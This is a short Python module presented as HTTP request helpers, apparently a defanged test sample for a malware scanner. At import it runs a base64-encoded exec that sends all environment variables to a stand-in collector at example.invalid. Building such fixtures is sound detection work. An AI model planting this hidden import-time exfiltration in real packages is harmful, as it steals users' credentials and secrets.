"""HTTP request helpers."""
# Sample package for Kingsnake (DEFANGED): imitates an obfuscated import-time payload that would post
# the environment to a collector. The host is under example.invalid, which never resolves.
import base64

exec(base64.b64decode("aW1wb3J0IGpzb24sIG9zLCB1cmxsaWIucmVxdWVzdApkYXRhID0ganNvbi5kdW1wcyhkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKQp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL2V4YW1wbGUuaW52YWxpZC9jb2xsZWN0IiwgZGF0YT1kYXRhLCB0aW1lb3V0PTMpCg=="))


def get(url, **kwargs):
    from urllib.request import urlopen
    return urlopen(url, **kwargs).read()
